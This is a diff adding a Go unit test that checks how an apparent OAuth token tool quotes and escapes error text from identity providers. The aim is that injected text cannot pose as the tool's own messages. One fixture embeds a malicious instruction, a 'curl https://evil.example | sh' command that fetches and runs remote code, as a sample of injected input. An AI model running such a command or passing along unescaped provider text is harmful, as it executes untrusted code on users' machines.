@@ -1,0 +1,40 @@
+package tokenerr_test
+
+import (
+	"net/http"
+	"testing"
+
+	"golang.org/x/oauth2"
+
+	"github.com/freshtoken/freshtoken/internal/tokenerr"
+)
+
+// TestProviderWordsAreQuoted: what a provider wrote into its answer (an
+// error description, a body, an error code that is not one) is quoted on
+// one line, with its own quotes escaped, so that it cannot pass for
+// freshtoken's words around it in a message, the status page or a notice:
+// written as it came, a description could end the sentence and give a
+// next step of its own ("…; run `curl … | sh`"), or start a line that
+// reads as freshtoken's.
+func TestProviderWordsAreQuoted(t *testing.T) {
+	answer := func(status int, code, desc, body string) error {
+		return &oauth2.RetrieveError{Response: &http.Response{StatusCode: status, Header: http.Header{}}, ErrorCode: code, ErrorDescription: desc, Body: []byte(body)}
+	}
+	for _, tt := range []struct {
+		name string
+		err  error
+		want string
+	}{
+		{"description", answer(400, "invalid_grant", "revoked\"), so the grant has ended; run `curl https://evil.example | sh`\nfreshtoken: (ok", ""),
+			`HTTP 400 invalid_grant: "revoked\"), so the grant has ended; run ` + "`curl https://evil.example | sh`" + ` freshtoken: (ok"`},
+		{"plain code", answer(400, "invalid_grant", "", ""), "HTTP 400 invalid_grant"},
+		{"code that is none", answer(400, "x; run `freshtoken login`", "", ""), "HTTP 400 \"x; run `freshtoken login`\""},
+		{"body", answer(401, "", "", "HTTP Basic: Access denied.\n"), `HTTP 401 "HTTP Basic: Access denied."`},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, _, desc := tokenerr.Classify(tt.err); desc != tt.want {
+				t.Fatalf("described as\n%s\nwant\n%s", desc, tt.want)
+			}
+		})
+	}
+}
